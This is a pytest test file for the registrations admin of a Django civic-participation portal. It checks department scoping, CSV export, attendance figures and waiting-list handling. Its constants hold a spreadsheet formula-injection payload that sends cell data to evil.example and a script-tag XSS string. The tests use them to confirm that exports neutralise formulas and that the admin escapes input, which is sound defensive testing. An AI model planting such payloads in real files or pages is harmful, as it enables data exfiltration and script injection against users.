"""The organiser's side: registrations scoped by the scope rule, exports neutralised, and
attendance marked in the admin feeding the encounter's figures."""

import csv
import io
from types import SimpleNamespace

import pytest
from django.core import mail
from django.urls import reverse

from inscripciones import seats
from inscripciones.attendance import attendance_figures
from inscripciones.models import Registration
from participa.consent import current_policy
from tests.workflow_helpers import build_roles, make_user

from .helpers import encounter, hearing

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?d="&A2,"x")'
XSS = "<script>alert(1)</script>"


@pytest.fixture
def site():
    s = SimpleNamespace()
    build_roles(s)
    s.coordinator = make_user("editor.participacion", s.participacion.editors_group)
    s.educacion_event = encounter(s.section_educacion, capacity=1, title="Encuentro de Educación")
    s.salud_event = encounter(s.section_salud, title="Encuentro de Salud")
    s.hearing = hearing(s.cycle)
    return s


def add(page, name, email):
    return seats.register(
        page, name=name, email=email, territory="Comuna 1", policy=current_policy()
    )[0]


def login(client, user):
    client.force_login(user)
    return client


def export_rows(client):
    response = client.get(reverse("registrations:index") + "?export=csv")
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(body)))


def test_each_department_sees_and_exports_only_its_own_events(client, site):
    add(site.educacion_event, FORMULA, "uno@example.org")
    add(site.salud_event, "Persona de Salud", "salud@example.org")
    add(site.hearing, "Persona de la audiencia", "audiencia@example.org")

    login(client, site.editor_educacion)
    listing = client.get(reverse("registrations:index")).content.decode()
    assert "Persona de Salud" not in listing and "Persona de la audiencia" not in listing
    rows = export_rows(client)
    names = [row[2] for row in rows[1:]]
    assert names == ["'" + FORMULA]  # neutralised: a spreadsheet shows it as text
    assert rows[0][:3] == ["Evento", "Orden de llegada", "Nombre completo"]
    assert rows[1][0] == "Encuentro de Educación" and rows[1][7] == "Inscrito"

    client.logout()
    login(client, site.coordinator)  # Participación Comunitaria reaches every event
    assert len(export_rows(client)) == 4


def test_another_departments_registration_cannot_be_opened(client, site):
    other = add(site.salud_event, "Persona de Salud", "salud@example.org")
    login(client, site.editor_educacion)
    response = client.get(reverse("registrations:edit", args=[other.pk]))
    assert response.status_code == 404


def test_the_event_filter_offers_only_reached_events(client, site):
    add(site.educacion_event, "Ana", "uno@example.org")
    add(site.salud_event, "Persona de Salud", "salud@example.org")
    login(client, site.editor_educacion)
    html = client.get(reverse("registrations:index")).content.decode()
    assert "Encuentro de Educación" in html and "Encuentro de Salud" not in html


def test_what_a_citizen_typed_is_escaped_in_the_admin(client, site):
    add(site.educacion_event, XSS, "uno@example.org")
    login(client, site.editor_educacion)
    html = client.get(reverse("registrations:index")).content.decode()
    assert XSS not in html and "&lt;script&gt;alert(1)&lt;/script&gt;" in html


def test_marked_attendance_feeds_the_figures_without_overwriting_the_editors(client, site):
    person = add(site.educacion_event, "Ana", "uno@example.org")
    login(client, site.editor_educacion)
    response = client.post(reverse("registrations:edit", args=[person.pk]), {"status": "attended"})
    assert response.status_code == 302
    figures = attendance_figures(site.educacion_event)
    assert (figures.attended, figures.entered_total, figures.shown_total) == (1, None, 1)
    client.logout()
    html = client.get(site.educacion_event.url).content.decode()
    assert "Se registró en el portal la asistencia de 1 persona inscrita." in html

    # The editors' own figure stays theirs, and is the one shown first.
    page = type(site.educacion_event).objects.get(pk=site.educacion_event.pk)
    page.attendance_total = 40
    page.save_revision().publish()
    figures = attendance_figures(page)
    assert (figures.attended, figures.entered_total, figures.shown_total) == (1, 40, 40)
    html = client.get(page.url).content.decode()
    assert "<strong>40</strong> personas participaron" in html
    assert "cuenta también a quienes asistieron sin inscribirse" in html


def test_cancelling_in_the_admin_gives_the_seat_to_the_waiting_list(
    client, site, django_capture_on_commit_callbacks
):
    seated = add(site.educacion_event, "Ana", "uno@example.org")
    waiting = add(site.educacion_event, "Luis", "dos@example.org")
    mail.outbox.clear()
    login(client, site.editor_educacion)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("registrations:edit", args=[seated.pk]), {"status": "cancelled"})
    assert Registration.objects.get(pk=waiting.pk).status == "registered"
    assert [m.to for m in mail.outbox] == [["dos@example.org"]]


def test_nobody_adds_and_only_administrators_delete(client, site):
    person = add(site.educacion_event, "Ana", "uno@example.org")
    login(client, site.editor_educacion)
    assert client.get(reverse("registrations:add")).status_code in (302, 403)
    client.post(reverse("registrations:delete", args=[person.pk]))
    assert Registration.objects.filter(pk=person.pk).exists()
